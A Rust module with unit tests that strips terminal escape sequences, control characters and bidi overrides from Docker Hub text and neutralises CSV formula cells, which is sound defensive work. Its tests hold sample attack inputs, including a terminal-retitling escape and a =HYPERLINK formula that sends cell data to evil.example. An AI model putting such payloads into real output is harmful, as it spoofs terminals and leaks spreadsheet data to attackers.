//! Text the CLI did not write itself (Docker Hub's names, messages and error texts, through the
//! component) made safe for where it is printed: a terminal, and a spreadsheet opening a CSV file.
//!
//! - **Terminal** ([`terminal_line`], [`terminal_text`]): ANSI and other escape sequences are
//!   removed whole (CSI `ESC [ …`, OSC `ESC ] … BEL|ST` that can retitle a terminal or write to its
//!   clipboard, DCS/SOS/PM/APC strings, two-byte `ESC x`, and their 8-bit C1 forms), then every
//!   other control character and the Unicode bidirectional overrides, which can hide or reorder
//!   what a line shows. A tab is a space. A line break is kept only by [`terminal_text`], for the
//!   CLI's own multi-line messages; a field from Docker Hub is printed with [`terminal_line`], on
//!   one line, so it can never start a line that looks like the CLI's own `detail:` or `hint:`.
//! - **CSV** ([`csv_cell`]): the cell on one line as for a terminal, and a cell whose first
//!   non-blank character is `=`, `+`, `-` or `@` (a formula to a spreadsheet; tab and carriage
//!   return, the other two OWASP names, are already spaces) gets a leading `'`, as OWASP's CSV
//!   injection guidance recommends. A plain number (`-5`, `+1.5`) is left alone: it is no formula.
//!   The CSV writer still quotes the cell when it holds a quote, comma or separator.
//!
//! JSON output is not changed: JSON escapes every C0 control character (`ESC` is `\u001b`), and
//! programs read it, not terminals.

use std::iter::Peekable;
use std::str::Chars;

/// `text` for a terminal, on one line: escape sequences and control characters removed, line
/// breaks and tabs as spaces.
pub fn terminal_line(text: &str) -> String {
    clean(text, false)
}

/// `text` for a terminal, keeping its line breaks (`\r\n` as `\n`): escape sequences and every
/// other control character removed, tabs as spaces. For the CLI's own messages, whose parts from
/// Docker Hub were made one line each with [`terminal_line`].
pub fn terminal_text(text: &str) -> String {
    clean(text, true)
}

/// `text` as a CSV cell a spreadsheet shows as text: one line without control characters, and a
/// leading `'` when it would otherwise start a formula.
pub fn csv_cell(text: &str) -> String {
    let line = clean(text, false);
    let first = line.trim_start().chars().next();
    if matches!(first, Some('=' | '+' | '-' | '@')) && !is_plain_number(line.trim()) {
        format!("'{line}")
    } else {
        line
    }
}

/// A decimal number with an optional sign and fraction (`-5`, `+1.25`): a spreadsheet reads it as
/// a number, never as a formula.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

/// Removes escape sequences and control characters; `\n` kept when `keep_lines`, else a space.
fn clean(text: &str, keep_lines: bool) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => skip_escape(&mut chars),
            '\u{9b}' => skip_csi(&mut chars),
            // 8-bit DCS, SOS, OSC, PM and APC: a string up to its terminator.
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            '\r' if keep_lines && chars.peek() == Some(&'\n') => {}
            '\n' if keep_lines => out.push('\n'),
            '\n' | '\r' | '\t' => out.push(' '),
            c if c.is_control() || is_bidi_control(c) => {}
            c => out.push(c),
        }
    }
    out
}

/// The Unicode bidirectional embeddings, overrides and isolates (U+202A–U+202E, U+2066–U+2069).
fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Skips what follows an `ESC`: a CSI, a string (OSC, DCS, SOS, PM, APC), or an `ESC` with
/// intermediates and a final character.
fn skip_escape(chars: &mut Peekable<Chars<'_>>) {
    match chars.peek() {
        Some('[') => {
            chars.next();
            skip_csi(chars);
        }
        Some(']' | 'P' | 'X' | '^' | '_') => {
            chars.next();
            skip_string(chars);
        }
        Some(_) => {
            // nF: intermediates (0x20–0x2F), then one final character (0x30–0x7E).
            while chars.next_if(|c| ('\u{20}'..='\u{2f}').contains(c)).is_some() {}
            chars.next_if(|c| ('\u{30}'..='\u{7e}').contains(c));
        }
        None => {}
    }
}

/// Skips a CSI's parameters and intermediates (0x20–0x3F) and its final character (0x40–0x7E).
/// Anything else ends it unconsumed (a malformed sequence does not swallow the text after it).
fn skip_csi(chars: &mut Peekable<Chars<'_>>) {
    while chars.next_if(|c| ('\u{20}'..='\u{3f}').contains(c)).is_some() {}
    chars.next_if(|c| ('\u{40}'..='\u{7e}').contains(c));
}

/// Skips a control string up to and including its terminator (BEL, `ESC \` or the 8-bit ST); a
/// line break or another `ESC` ends it too, so an unterminated string hides at most its own line.
fn skip_string(chars: &mut Peekable<Chars<'_>>) {
    while let Some(&c) = chars.peek() {
        match c {
            '\u{7}' | '\u{9c}' => {
                chars.next();
                return;
            }
            '\u{1b}' => {
                chars.next();
                chars.next_if_eq(&'\\');
                return;
            }
            '\n' => return,
            _ => {
                chars.next();
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn osc_and_csi_sequences_are_removed_whole() {
        assert_eq!(terminal_line("\u{1b}]0;pwned\u{7}Denied\u{1b}[2J."), "Denied.");
        assert_eq!(terminal_line("a\u{1b}]8;;http://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\b"), "alinkb");
        assert_eq!(terminal_line("\u{1b}[1;31mred\u{1b}[0m \u{1b}(Bplain \u{1b}c"), "red plain ");
        assert_eq!(terminal_line("x\u{9b}2Jy\u{9d}0;t\u{9c}z"), "xyz");
        assert_eq!(terminal_line("unterminated \u{1b}]0;title"), "unterminated ");
        assert_eq!(terminal_line("trailing \u{1b}"), "trailing ");
    }

    #[test]
    fn control_characters_and_bidi_overrides_are_removed_and_lines_joined() {
        assert_eq!(terminal_line("a\u{7}b\u{0}c\u{8}d\u{7f}e\u{85}f"), "abcdef");
        assert_eq!(terminal_line("one\ntwo\r\nthree\tfour"), "one two  three four");
        assert_eq!(terminal_line("abc\u{202e}fed\u{2066}x\u{2069}"), "abcfedx");
        assert_eq!(terminal_line("Zoë Lovelace — 東京"), "Zoë Lovelace — 東京");
    }

    #[test]
    fn terminal_text_keeps_line_breaks_only() {
        assert_eq!(terminal_text("kind: a\r\ndetail: b\u{1b}[2K\rc\n"), "kind: a\ndetail: b c\n");
    }

    #[test]
    fn formula_cells_get_a_leading_quote() {
        let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
        assert_eq!(csv_cell(formula), format!("'{formula}"));
        for cell in ["+1+2", "-2+3", "@SUM(A1)", " =1", "\t=1", "\r=1", "-", "=", "-1e3", "--5"] {
            assert!(csv_cell(cell).starts_with('\''), "{cell:?} -> {:?}", csv_cell(cell));
        }
        assert_eq!(csv_cell("\t=1"), "' =1");
    }

    #[test]
    fn plain_cells_and_numbers_are_left_alone() {
        for cell in ["ada", "a=b", "", "-5", "+1.25", "12", "ada@example.com", "2024-01-01T09:00:00Z"] {
            assert_eq!(csv_cell(cell), cell);
        }
        assert_eq!(csv_cell("line\nbreak\u{1b}[31m"), "line break");
    }
}
